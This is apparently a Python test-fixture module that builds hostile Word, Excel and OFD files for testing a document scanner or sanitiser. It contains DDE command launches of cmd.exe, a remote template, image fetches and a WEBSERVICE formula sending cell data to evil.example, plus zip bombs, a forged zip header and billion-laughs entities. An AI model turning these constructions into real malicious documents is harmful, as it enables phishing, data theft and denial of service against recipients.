"""Office files and OFD that act, carry or fetch, made here: name → bytes."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def package(parts: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def relations(*lines: tuple[bytes, bytes, bool]) -> bytes:
    """(type, target, outside) a line; ids are rId1 and so on."""
    inner = b"".join(
        b'<Relationship Id="rId%d" Type="%b" Target="%b"%b/>'
        % (number, _REL + kind, target, b' TargetMode="External"' if outside else b"")
        for number, (kind, target, outside) in enumerate(lines, 1)
    )
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + inner
        + b"</Relationships>"
    )


def word(body: bytes, more: Mapping[str, bytes] | None = None) -> bytes:
    document = b"<w:document %b %b><w:body>%b</w:body></w:document>" % (_W, _R, body)
    return package(
        {
            "[Content_Types].xml": _TYPES,
            "_rels/.rels": relations((b"officeDocument", b"word/document.xml", False)),
            "word/document.xml": document,
            **(more or {}),
        }
    )


def sheet(cells: bytes, more: Mapping[str, bytes] | None = None, book: bytes = b"") -> bytes:
    names = b'<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>'
    return package(
        {
            "[Content_Types].xml": _TYPES,
            "xl/workbook.xml": b"<workbook %b>%b%b</workbook>" % (_R, names, book),
            "xl/_rels/workbook.xml.rels": relations(
                (b"worksheet", b"worksheets/sheet1.xml", False)
            ),
            "xl/worksheets/sheet1.xml": b"<worksheet %b><sheetData>%b</sheetData></worksheet>"
            % (_R, cells),
            **(more or {}),
        }
    )


def ofd(document: bytes, more: Mapping[str, bytes] | None = None) -> bytes:
    return package(
        {
            "OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>',
            "Doc_0/Document.xml": b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016">%b'
            b"</ofd:Document>" % document,
            **(more or {}),
        }
    )


def _field(code: bytes) -> bytes:
    return (
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%b</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>' % code
    )


_RELS = "word/_rels/document.xml.rels"
HOSTILE: dict[str, bytes] = {
    "docx: macros": word(b"", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open"}),
    "docx: object": word(
        b'<w:object><o:OLEObject xmlns:o="o" Type="Embed" r:id="rId1"/></w:object>',
        {
            _RELS: relations((b"oleObject", b"embeddings/oleObject1.bin", False)),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 MZ",
        },
    ),
    "docx: template from outside": word(
        b"",
        {
            "word/settings.xml": b'<w:settings %b %b><w:attachedTemplate r:id="rId1"/></w:settings>'
            % (_W, _R),
            "word/_rels/settings.xml.rels": relations(
                (b"attachedTemplate", b"https://evil.example/x.dotm", True)
            ),
        },
    ),
    "docx: DDE": word(_field(b"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "docx: DDE in pieces": word(
        _field(b"DD").replace(
            b"</w:instrText>", b"</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>"
        )
    ),
    "docx: simple field": word(b"<w:fldSimple w:instr='DDE cmd'><w:r/></w:fldSimple>"),
    "docx: picture fetched": word(_field(b'INCLUDEPICTURE "https://evil.example/x.png"')),
    "docx: linked picture": word(
        b'<a:blip xmlns:a="a" r:link="rId1"/>',
        {_RELS: relations((b"image", b"https://evil.example/x.png", True))},
    ),
    "docx: link": word(
        b'<w:hyperlink r:id="rId1"><w:r/></w:hyperlink>',
        {_RELS: relations((b"hyperlink", b"https://evil.example/", True))},
    ),
    "docx: page inside": word(
        b'<w:altChunk r:id="rId1"/>',
        {
            _RELS: relations((b"aFChunk", b"afchunk.html", False)),
            "word/afchunk.html": b"<script>alert(1)</script>",
        },
    ),
    "docx: control": word(
        b'<w:control r:id="rId1"/>',
        {
            _RELS: relations((b"control", b"activeX/activeX1.xml", False)),
            "word/activeX/activeX1.xml": b"<ocx/>",
            "word/activeX/activeX1.bin": b"MZ",
        },
    ),
    "docx: program inside": word(b"", {"word/media/run.exe": b"MZ", "word/x.js": b"run()"}),
    "docx: who wrote it": word(
        b"", {"docProps/core.xml": b"<x>somebody</x>", "customXml/item1.xml": b"<x/>"}
    ),
    "xlsx: macros": sheet(b"", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "xlsx: macros of 1992": sheet(b"", {"xl/macrosheets/sheet2.xml": b"<f>EXEC(1)</f>"}),
    "xlsx: DDE": sheet(
        b'<row><c r="A1"><f>[1]!cmd</f><v>0</v></c></row>',
        {
            "xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>',
        },
        b'<externalReferences><externalReference r:id="rId2"/></externalReferences>',
    ),
    "xlsx: formula that fetches": sheet(
        b'<row><c r="A1"><f>WEBSERVICE("https://evil.example/"&amp;B1)</f><v>0</v></c></row>'
    ),
    "xlsx: name that runs": sheet(
        b"", None, b"<definedNames><definedName>cmd|' /c calc'!A1</definedName></definedNames>"
    ),
    "xlsx: data connection": sheet(b"", {"xl/connections.xml": b"<connections/>"}),
    "ofd: attachment": ofd(
        b"<ofd:Attachments>Attachs/a.xml</ofd:Attachments>",
        {"Doc_0/Attachs/a.exe": b"MZ", "Doc_0/Attachs/b.xml": b"<x/>"},
    ),
    "ofd: link and script": ofd(
        b'<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="https://evil.example/"/></ofd:Action>'
        b"</ofd:Actions>",
        {"Doc_0/run.js": b"run()"},
    ),
}


def _zip_bomb() -> bytes:
    return word(b"", {"word/styles.xml": bytes(10**9)[:600_000_000]})


def _many_parts() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/document.xml", b"<x/>")
        for number in range(60_000):
            archive.writestr(f"word/media/{number}.png", b"")
    return target.getvalue()


def _lying() -> bytes:
    """A part that says that it unpacks to ten bytes."""
    data = bytearray(word(b"", {"word/styles.xml": b"<x>" + b" " * 200_000_000 + b"</x>"}))
    at = data.rfind(b"word/styles.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def _overlapping() -> bytes:
    """Many names for the same packed bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<x>" + b" " * 900_000 + b"</x>")
        one = archive.infolist()[0]
        for number in range(3_000):
            copy = zipfile.ZipInfo(f"word/header{number}.xml")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(copy, field, getattr(one, field))
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
    return target.getvalue()


def _entities() -> bytes:
    lines = b"".join(
        b'<!ENTITY e%d "%b">' % (number, b"&e%d;" % (number - 1) * 10) for number in range(1, 10)
    )
    return package(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": b'<!DOCTYPE x [<!ENTITY e0 "ha">%b]><x>&e9;</x>' % lines,
        }
    )


def _deep_elements() -> bytes:
    return word(b"<a>" * 1_000_000 + b"</a>" * 1_000_000)


def _slow_pattern() -> bytes:
    return word(b"<w:control " * 200_000)


BOMBS: dict[str, Callable[[], bytes]] = {
    "docx: 600 MB in a part": _zip_bomb,
    "docx: 60,000 parts": _many_parts,
    "docx: a part that lies": _lying,
    "docx: parts that overlap": _overlapping,
    "docx: a billion entities": _entities,
    "docx: elements a million deep": _deep_elements,
    "docx: elements that never end": _slow_pattern,
}
